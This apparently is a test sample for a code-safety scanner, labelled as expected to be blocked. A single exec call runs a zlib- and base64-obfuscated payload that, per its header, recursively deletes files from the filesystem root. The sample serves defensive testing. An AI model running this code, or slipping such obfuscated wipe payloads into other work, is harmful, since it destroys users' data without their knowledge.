# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/rglob_unlink_root.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJw1jj0OwjAUg/ecwgpLwpDuSNyBAeaqFUn71PxULwmI29NGrTd/tmRf8Iqe4pJhP5Z/cOQtanxbRocvlRnrUGZPoxGOUzgdKKyJCx6bFcIlbgEoNqJkJ7XhyadRyavUN4FN5FrJUO73FXXgXY3XdkQFypni1Kfl/uRq9R8PyjRW')))
